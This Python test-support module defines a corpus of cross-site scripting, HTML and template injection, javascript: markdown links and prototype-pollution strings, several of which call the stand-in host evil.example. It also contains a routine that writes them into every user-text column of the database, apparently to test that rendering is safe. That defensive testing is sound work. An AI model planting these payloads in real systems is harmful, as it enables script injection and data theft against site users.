"""What attackers write into fields, and a database in which everybody has written it everywhere."""

from collections.abc import Iterator
from itertools import cycle
from typing import Any

from sqlalchemy import JSON, Column, String, Text, bindparam, select, update
from sqlalchemy.ext.asyncio import AsyncSession
from sqlalchemy.types import TypeEngine

from engine.db import Base

EVIL = "evil.example"  # nothing may ever be fetched from there
CORPUS = (
    "<script>window.ran=1</script>",
    "<ScRiPt src=//evil.example/a.js></ScRiPt>",
    "<img src=x onerror=window.ran=1>",
    "<img src=https://evil.example/a.png>",
    "<svg/onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><use href='https://evil.example/a.svg#a'/></svg>",
    "<math><mi xlink:href='javascript:window.ran=1'>x</mi></math>",
    "<iframe src='javascript:parent.ran=1'></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data='https://evil.example/a'></object><embed src='https://evil.example/a'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import 'https://evil.example/a.css';*{background:url(https://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><button>Go</button></form>",
    "<input autofocus onfocus=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<body onload=window.ran=1>",
    "<a href='javascript:window.ran=1'>x</a>",
    "<a href='data:text/html,<script>window.ran=1</script>'>x</a>",
    "<template><script>window.ran=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    '"><script>window.ran=1</script>',
    "'><img src=x onerror=window.ran=1>",
    '" onmouseover="window.ran=1" autofocus onfocus="window.ran=1',
    "' onmouseover='window.ran=1' autofocus onfocus='window.ran=1",
    "` onmouseover=window.ran=1 `",
    "</textarea><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "</style><script>window.ran=1</script>",
    "</option></select><img src=x onerror=window.ran=1>",
    "--><script>window.ran=1</script><!--",
    "]]><script>window.ran=1</script>",
    "';window.ran=1;//",
    '";window.ran=1;//',
    '\\";window.ran=1;//',
    "\u2028window.ran=1\u2029",
    "${window.ran=1}",
    "{{ 7*'7' }}{% print(7*'7') %}{{ constructor.constructor('window.ran=1')() }}",
    "[x](javascript:window.ran=1)",
    "[x](JaVaScRiPt:window.ran=1)",
    "[x](java\tscript:window.ran=1)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    "[x](vbscript:window.ran=1)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:window.ran=1)",
    "[![x](https://evil.example/pixel.png)](https://evil.example/)",
    "[x]: javascript:window.ran=1\n[x]",
    "<https://evil.example/a>",
    "<javascript:window.ran=1>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "\x3cscript\x3ewindow.ran=1\x3c/script\x3e",
    "＜script＞window.ran=1＜/script＞",
    "\u202e>tpircs/<1=nar.wodniw>tpircs<",
    "url(javascript:window.ran=1)",
    "javascript:window.ran=1",
    "//evil.example/a",
    "https://evil.example/a.png",
    "data:image/svg+xml,<svg onload=window.ran=1>",
    "red;background:url(https://evil.example/c)",
    "__proto__",
    "constructor",
)
ALL = "\n\n".join(CORPUS)

# Columns, and keys inside JSON, whose words are ours: names of states and kinds, keys, hashes, codes, addresses of a
# machine. Whatever is not here is what somebody wrote, and is overwritten: also in a table that is made tomorrow.
OURS = {
    "id", "key", "slug", "email", "password_hash", "role", "mode", "author", "state", "kind", "reference", "action",
    "subject", "locale", "language", "imprint", "embeddings", "country", "model", "content_hash", "charge",
    "answer_kind", "moment", "field", "status", "csrf", "ip", "allowed_origins", "color", "host", "is", "code",
    "version", "payload", "memo", "hours", "opens",
}  # fmt: skip


async def poison(session: AsyncSession) -> list[str]:
    """Write the corpus into every field that holds somebody's words, in every row; ``table.column`` of each."""
    found = []
    for table in Base.metadata.sorted_tables:
        if table.name == "ledger_entries":
            continue  # its rows cannot be changed, by whomever
        (first, *_) = table.primary_key.columns
        for column in table.columns:
            if _is_ours(column) or not isinstance(column.type, String | JSON):
                continue
            some = _fitting(column.type)
            rows = (await session.execute(select(first, column))).all()
            for key, value in rows:
                await session.execute(
                    update(table).where(first == key).values({column.name: bindparam("written")}),
                    {"written": next(some) if isinstance(column.type, String) else _poisoned(value, some)},
                )
            if rows:
                found.append(f"{table.name}.{column.name}")
    return found


def _is_ours(column: Column[Any]) -> bool:
    too_short = 0 < (getattr(column.type, "length", None) or 0) <= 10  # a word of ours: nobody's sentence fits
    named = column.name in OURS or column.name.endswith("_id")
    return named or too_short or column.primary_key or bool(column.foreign_keys)


def _fitting(type_: TypeEngine[Any]) -> Iterator[str]:
    """Endless rounds of what fits into the column; all at once where there is room for all."""
    length = getattr(type_, "length", None)
    if isinstance(type_, Text) or not isinstance(type_, String) or length is None or length >= len(ALL):
        return cycle([ALL])
    return cycle([each for each in CORPUS if len(each) <= length])


def _poisoned(value: Any, some: Iterator[str]) -> Any:
    match value:
        case str():
            return next(some)
        case list():
            return [_poisoned(each, some) for each in value]
        case dict():
            return {
                name: each if name in OURS or name.endswith("_id") else _poisoned(each, some)
                for name, each in value.items()
            }
        case _:
            return value
